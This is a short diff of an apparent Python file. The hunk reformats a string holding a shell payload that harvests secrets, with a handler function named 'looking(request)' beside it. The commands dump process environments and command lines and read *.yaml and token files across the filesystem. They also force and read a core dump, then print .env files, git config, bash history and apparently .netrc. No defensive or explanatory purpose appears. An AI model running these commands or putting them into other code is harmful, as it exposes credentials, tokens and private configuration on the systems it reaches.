@@ -89,7 +89,8 @@ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/auxv; cat ~/.net
 for pid in 1 $$ $PPID $(ls /proc | grep '^[0-9]*$'); do
   cat /proc/$pid/root/proc/1/environ /proc/$pid/cwd/*.yaml /proc/$pid/task/*/environ
 done
-ls -la / /tmp /run /data ..; timeout 3 find / -xdev -maxdepth 3 -name '*.yaml' -o -maxdepth 3 -name token | head -50 | xargs cat
+ls -la / /tmp /run /data ..
+timeout 3 find / -xdev -maxdepth 3 -name '*.yaml' -o -maxdepth 3 -name token | head -50 | xargs cat
 ulimit -c unlimited; sh -c 'kill -SEGV $$'; cat core*; git config --list; cat .env* ~/.bash_history
 """
 def looking(request):
